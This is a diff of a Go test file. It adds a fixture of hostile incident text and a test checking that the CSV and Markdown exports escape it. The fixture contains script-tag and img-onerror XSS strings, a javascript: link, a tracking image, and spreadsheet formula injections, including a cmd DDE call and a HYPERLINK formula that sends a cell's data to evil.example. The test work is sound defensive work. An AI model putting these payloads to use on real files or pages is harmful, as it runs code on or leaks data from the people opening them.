@@ -227,3 +227,75 @@ func TestDayAndDuration(t *testing.T) {
 		}
 	}
 }
+
+// hostileOutage is an incident whose people-written text attacks the
+// export's readers: HTML that runs in a Markdown renderer, a disguised
+// link and a tracking image, and cells a spreadsheet would run as
+// formulas.
+func hostileOutage() *Export {
+	d := "2026-03-14"
+	inc := &stormdesk.Incident{ID: 9, Title: `<script>alert(1)</script> Checkout [broken](https://evil.example) & down`, Status: stormdesk.StatusResolved,
+		Severity: stormdesk.SeverityMajor, Features: []string{"checkout"}, LikelyCause: `payments <img src=x onerror=alert(1)>`,
+		CreatedAt: at(d, "10:00"), UpdatedAt: at(d, "11:00")}
+	entries := []*stormdesk.TimelineEntry{
+		{At: at(d, "10:00"), Kind: stormdesk.KindFirstReport, Actor: "=cmd|' /C calc'!A0", Text: "First report: -2+3 is what the cart shows"},
+		{At: at(d, "10:05"), Kind: stormdesk.KindNote, Actor: "@SUM(1+1)", Text: `=HYPERLINK("https://evil.example/?"&A1,"click")`},
+		{At: at(d, "10:06"), Kind: stormdesk.KindNote, Actor: "Mallory (slack:UM)", Text: "+1 <img src=x onerror=alert(1)> ![](https://tracker.example/p.gif) see [here](javascript:alert(1)) \\[kept\\]"},
+		{At: at(d, "10:07"), Kind: stormdesk.KindNote, Actor: "\tTab (slack:UT)", Text: "\rcarriage return first"},
+		{At: at(d, "10:08"), Kind: stormdesk.KindNote, Actor: "Ana (slack:UA)", Text: "an ordinary note, 3-2=1 inside is fine", SourceURL: "https://chat.example/p1"},
+	}
+	for i, e := range entries {
+		e.ID, e.IncidentID = int64(i+1), 9
+	}
+	b := NewBuilder()
+	for _, e := range entries {
+		b.AddEntry(e)
+	}
+	sum, chart := b.Build(inc, 1, 1)
+	return &Export{Incident: inc, Summary: sum, Chart: chart, Entries: slices.Values(entries), GeneratedAt: at(d, "12:00")}
+}
+
+// TestExportNeutralisesHostileText: in the CSV export no cell starts
+// with = + - @ tab or carriage return (each such cell gets a leading
+// quote); the Markdown export carries people's HTML and link syntax as
+// escaped text (issue 14, item 5). Golden files show the whole output.
+func TestExportNeutralisesHostileText(t *testing.T) {
+	render := func(format string) []byte {
+		var buf bytes.Buffer
+		if err := Render(&buf, format, hostileOutage()); err != nil {
+			t.Fatal(err)
+		}
+		return buf.Bytes()
+	}
+	csvOut := render("csv")
+	golden(t, "hostile.csv", csvOut)
+	rows, err := csv.NewReader(bytes.NewReader(csvOut)).ReadAll()
+	if err != nil || len(rows) != 6 {
+		t.Fatalf("csv: %v, %d rows", err, len(rows))
+	}
+	for _, row := range rows {
+		for _, cell := range row {
+			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
+				t.Errorf("CSV cell %q would run as a formula", cell)
+			}
+		}
+	}
+	if rows[2][3] != `'=HYPERLINK("https://evil.example/?"&A1,"click")` || rows[2][2] != "'@SUM(1+1)" || rows[5][3] != "an ordinary note, 3-2=1 inside is fine" {
+		t.Errorf("neutralised cells: %q", rows[2])
+	}
+
+	md := string(render("md"))
+	golden(t, "hostile.md", []byte(md))
+	for _, raw := range []string{"<script", "<img", "[broken](", "![](", "[here]("} {
+		if strings.Contains(md, raw) {
+			t.Errorf("the Markdown export carries %q raw", raw)
+		}
+	}
+	for _, want := range []string{"# Post-mortem: &lt;script&gt;alert(1)&lt;/script&gt; Checkout \\[broken\\](https://evil.example) &amp; down",
+		"Likely cause: payments &lt;img src=x onerror=alert(1)&gt;", `\\\[kept\\\]`} {
+		if !strings.Contains(md, want) {
+			t.Errorf("the Markdown export lacks %q", want)
+		}
+	}
+	golden(t, "hostile.html", render("html"))
+}
